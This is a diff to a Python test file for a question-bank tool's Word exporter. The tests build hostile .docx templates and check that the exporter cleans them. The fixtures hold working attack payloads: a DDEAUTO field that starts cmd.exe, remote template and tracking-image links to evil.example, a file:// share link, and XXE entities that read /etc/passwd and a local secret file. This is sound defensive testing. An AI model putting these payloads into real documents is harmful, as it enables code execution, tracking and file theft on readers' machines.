@@ -1,9 +1,9 @@
-"""A Word template (--docx-template) is a file from a stranger: bounded and checked.
+"""A Word template (--docx-template) is a file from a stranger: bounded, checked, cleaned.
 
 Every file here is built by the test itself: zip bombs from a deflate stream of zeros
 (repeated blocks, so 2 GB cost a second to make and 2 MB to store), zips whose headers
 lie (sizes patched in the local and central directory headers), macro files, an OLE file,
-plain zips.
+plain zips, and templates that point outside themselves or declare external entities.
 """
 
 from __future__ import annotations
@@ -12,6 +12,7 @@ import io
 import json
 import os
 import re
+import socket
 import struct
 import subprocess
 import sys
@@ -22,20 +23,27 @@ from pathlib import Path
 import docx
 import pytest
 from docx.shared import Mm
+from lxml import etree
 
-from conftest import run_cli
+from conftest import run_cli, soffice_or_skip
 from qbank import limits
 from qbank.errors import QbankError
-from qbank.exporters import registry
+from qbank.exporters import ExportOptions, get_exporter, registry
 
 registry()  # load every format before importing the Word exporter's modules directly
 
 from qbank.exporters.word import template_check  # noqa: E402
 from qbank.exporters.word.package import BaseDocument  # noqa: E402
 from qbank.exporters.word.template_check import check_template  # noqa: E402
+from qbank.generator import generate  # noqa: E402
+from qbank.bank import load_bank  # noqa: E402
 
 MB = 1 << 20
 SRC = Path(__file__).resolve().parents[1] / "src" / "qbank"
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+SECRET = "QBANK-SECRET-7f3a9c"  # the text of a local file an entity tries to read
 
 
 # --- building zips by hand ------------------------------------------------------------
@@ -114,6 +122,26 @@ def letterhead_parts() -> dict[str, bytes]:
     document.save(buffer)
     with zipfile.ZipFile(buffer) as source:
         return {info.filename: source.read(info) for info in source.infolist()}
+
+
+def header_name(parts: dict[str, bytes]) -> str:
+    return next(n for n, data in parts.items()
+                if n.startswith("word/header") and b"Springfield" in data)
+
+
+def add_relationships(parts: dict[str, bytes], rels_name: str, *rels: tuple[str, str, str]):
+    """Add external relationships (id, type, target) to a .rels part, creating it if need be."""
+    root = etree.fromstring(parts.get(rels_name, f'<Relationships xmlns="{RELS_NS}"/>'.encode()))
+    for rid, kind, target in rels:
+        etree.SubElement(root, f"{{{RELS_NS}}}Relationship", Id=rid, Type=RT + kind,
+                         Target=target, TargetMode="External")
+    parts[rels_name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8",
+                                      standalone=True)
+
+
+def insert_xml(parts: dict[str, bytes], name: str, before: bytes, xml: bytes) -> None:
+    assert before in parts[name]
+    parts[name] = parts[name].replace(before, xml + before, 1)
 
 
 # --- the zip bomb of the issue, checked in a fresh process -----------------------------
@@ -401,6 +429,208 @@ def test_each_refusal_has_its_own_message(tmp_path):
             check_template(tmp_path / name)
         messages.add(caught.value.message)
     assert len(messages) == len(FOREIGN)
+
+
+# --- nothing external reaches the outputs ----------------------------------------------
+
+
+def hostile_letterhead(path: Path) -> Path:
+    """A letterhead that attaches a remote template, links remote pictures, data and a
+    web page, and has fields that fetch a picture and start a program."""
+    parts = letterhead_parts()
+    header = header_name(parts)
+    header_rels = header.replace("word/", "word/_rels/") + ".rels"
+    add_relationships(parts, "word/_rels/settings.xml.rels",
+                      ("rIdEvilTemplate", "attachedTemplate",
+                       "http://evil.example/letterhead.dotm"))
+    insert_xml(parts, "word/settings.xml", b"<w:defaultTabStop",
+               f'<w:attachedTemplate xmlns:r="{R_NS}" r:id="rIdEvilTemplate"/>'.encode())
+    add_relationships(parts, header_rels,
+                      ("rIdPixel", "image", "http://evil.example/pixel.png"),
+                      ("rIdOnlyLinked", "image", "https://evil.example/logo.png"),
+                      ("rIdSite", "hyperlink", "https://evil.example/school"))
+    add_relationships(parts, "word/_rels/document.xml.rels",
+                      ("rIdData", "oleObject", "file://///evil.example/share/marks.xlsx"))
+    # the logo: linked *and* embedded; a copy that is only linked; a link; two fields
+    xml = parts[header].decode()
+    drawing = re.search(r"<w:drawing>.*?</w:drawing>", xml, re.S).group(0)
+    assert 'r:embed="' in drawing
+    linked_too = drawing.replace('r:embed="', 'r:link="rIdPixel" r:embed="')
+    only_linked = re.sub(r'r:embed="[^"]*"', 'r:link="rIdOnlyLinked"', drawing)
+    xml = xml.replace(drawing, linked_too)
+    extra = (f'<w:p><w:r>{only_linked}</w:r></w:p>'
+             '<w:p><w:hyperlink r:id="rIdSite"><w:r><w:t>our website</w:t></w:r></w:hyperlink>'
+             '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+             '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
+             '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
+             '"/k calc"</w:instrText></w:r>'
+             '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Motto</w:t></w:r>'
+             '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+             '<w:fldSimple w:instr=\' INCLUDEPICTURE "http://evil.example/track.gif" \\d\'>'
+             '<w:r><w:t>Crest</w:t></w:r></w:fldSimple>'
+             '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+             '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
+             '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
+             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    parts[header] = xml.replace("</w:hdr>", extra + "</w:hdr>").encode()
+    return zip_of(path, parts)
+
+
+class FolderSink:
+    def __init__(self, folder: Path) -> None:
+        self.folder = folder
+        folder.mkdir(parents=True, exist_ok=True)
+        self.warnings: list[str] = []
+
+    def path(self, name: str) -> Path:
+        return self.folder / name
+
+    def open(self, name: str, mode: str = "w"):
+        return open(self.folder / name, mode, **({} if "b" in mode else {"encoding": "utf-8"}))
+
+    def warn(self, message: str) -> None:
+        self.warnings.append(message)
+
+
+def export_with(template: Path, out: Path) -> tuple[list[Path], list[str]]:
+    sink = FolderSink(out)
+    get_exporter("docx").write(generate(load_bank(), 2, 3), sink,
+                               ExportOptions(docx_template=template, timestamp=0))
+    return sorted(out.glob("*.docx")), sink.warnings
+
+
+def package_parts(path: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(path) as archive:
+        return {info.filename: archive.read(info) for info in archive.infolist()}
+
+
+def check_nothing_external(path: Path) -> None:
+    parts = package_parts(path)
+    for name, data in parts.items():
+        assert b"evil.example" not in data, name
+        if not name.endswith(".rels"):
+            continue
+        rels = etree.fromstring(data)
+        ids = set()
+        for rel in rels:
+            assert rel.get("TargetMode", "Internal") != "External", (name, rel.attrib)
+            assert not rel.get("Type").endswith("/attachedTemplate")
+            ids.add(rel.get("Id"))
+        # every reference of the part names a relationship that is still there
+        source = name.replace("_rels/", "").removesuffix(".rels")
+        if source in parts:
+            used = set(re.findall(rb'\br:(?:id|embed|link)="([^"]*)"', parts[source]))
+            assert {u.decode() for u in used} <= ids, (source, used, ids)
+    assert b"attachedTemplate" not in parts["word/settings.xml"]
+    texts = b"".join(d for n, d in parts.items() if n.startswith("word/header"))
+    assert b"Springfield High School" in texts and b"our website" in texts
+    assert b"DDE" not in texts and b"INCLUDEPICTURE" not in texts
+    assert b"Motto" in texts and b"Crest" in texts  # the fields' last results stay, as text
+    assert b" PAGE " in texts  # harmless fields stay fields
+
+
+@pytest.fixture(scope="module")
+def hostile_outputs(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("external")
+    template = hostile_letterhead(folder / "letterhead.docx")
+    files, warnings = export_with(template, folder / "out")
+    return template, files, warnings
+
+
+def test_external_references_never_reach_the_outputs(hostile_outputs):
+    template, files, warnings = hostile_outputs
+    assert [f.name for f in files] == ["open-vs-closed-ai-answer-key.docx",
+                                       "open-vs-closed-ai-worksheets.docx"]
+    for path in files:
+        check_nothing_external(path)
+        document = docx.Document(str(path))  # still a Word document, letterhead and all
+        assert "Springfield High School" in document.sections[0].header.paragraphs[0].text
+        assert round(min(document.sections[0].page_width.mm,
+                         document.sections[0].page_height.mm)) == 210
+    assert warnings == [
+        f"{template}: the Word template points to files outside it, which Word could fetch "
+        "when a worksheet is opened; qbank left them out of the worksheets and the answer "
+        "key: linked data (file://///evil.example/share/marks.xlsx), a "
+        "picture (http://evil.example/pixel.png), a picture (https://evil.example/logo.png), "
+        "a link (https://evil.example/school), an attached template "
+        "(http://evil.example/letterhead.dotm)",
+        f"{template}: the Word template has fields that fetch files or start programs "
+        "(INCLUDEPICTURE, DDEAUTO); qbank kept only their text"]
+
+
+@pytest.mark.libreoffice
+def test_cleaned_outputs_open_in_libreoffice(hostile_outputs, tmp_path):
+    exe = soffice_or_skip()
+    _, files, _ = hostile_outputs
+    worksheets = files[1]
+    profile = tmp_path / "lo-profile"
+    subprocess.run([exe, f"-env:UserInstallation={profile.as_uri()}", "--headless",
+                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(worksheets)],
+                   capture_output=True, text=True, timeout=300)
+    pdf = tmp_path / (worksheets.stem + ".pdf")
+    assert pdf.exists()
+    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
+                          check=True).stdout
+    assert "Springfield High School" in text and "Motto" in text
+
+
+def test_the_cli_warns_once_and_writes_clean_files(tmp_path):
+    template = hostile_letterhead(tmp_path / "letterhead.dotx")
+    out = tmp_path / "out"
+    result = run_cli("generate", "-n", "2", "--seed", "1", "-f", "docx", "-o", out,
+                     "--docx-template", template)
+    assert result.output.count("Warning: ") == 2
+    assert "an attached template (http://evil.example/letterhead.dotm)" in result.output
+    for path in out.glob("*.docx"):
+        check_nothing_external(path)
+
+
+# --- entities and network stay off ------------------------------------------------------
+
+
+def test_external_entities_are_never_resolved(tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text(SECRET)
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(5)
+    listener.setblocking(False)
+    port = listener.getsockname()[1]
+    doctype = (f'<!DOCTYPE w:styles SYSTEM "http://127.0.0.1:{port}/dtd" ['
+               '<!ENTITY passwd SYSTEM "file:///etc/passwd">'
+               f'<!ENTITY secret SYSTEM "{secret.as_uri()}">'
+               f'<!ENTITY remote SYSTEM "http://127.0.0.1:{port}/x">'
+               '<!ENTITY school "Springfield">]>').encode()
+    parts = letterhead_parts()
+    for name in ("word/styles.xml", header_name(parts)):
+        declaration_end = parts[name].index(b"?>") + 2
+        data = parts[name][:declaration_end] + doctype + parts[name][declaration_end:]
+        parts[name] = data.replace(b"Springfield High School",
+                                   b"&school; High School &passwd;&secret;&remote;").replace(
+            b"</w:docDefaults>", b"</w:docDefaults><w:x>&passwd;&secret;&remote;</w:x>")
+    template = zip_of(tmp_path / "letterhead.docx", parts)
+    try:
+        files, warnings = export_with(template, tmp_path / "out")
+        result = run_cli("generate", "-n", "1", "-f", "docx", "-o", tmp_path / "cli",
+                         "--docx-template", template)
+        files += list((tmp_path / "cli").glob("*.docx"))
+        with pytest.raises(BlockingIOError):
+            listener.accept()  # nobody called
+    finally:
+        listener.close()
+    passwd = Path("/etc/passwd").read_bytes() if Path("/etc/passwd").exists() else b""
+    first_line = passwd.splitlines()[0] if passwd else b"root:x:0:0"
+    assert len(files) == 4
+    for path in files:
+        for name, data in package_parts(path).items():
+            assert SECRET.encode() not in data and first_line not in data, name
+            assert b"<!DOCTYPE" not in data and b"&passwd;" not in data, name
+        docx.Document(str(path))
+    assert warnings == [
+        f"{template}: the Word template's word/styles.xml, {header_name(parts)} declare "
+        "entities (<!DOCTYPE>), which Word never writes and which can be used to read "
+        "files on this computer; qbank ignored them"]
+    assert SECRET not in result.output and "declare entities" in result.output
 
 
 def test_every_xml_qbank_reads_goes_through_the_safe_parser():
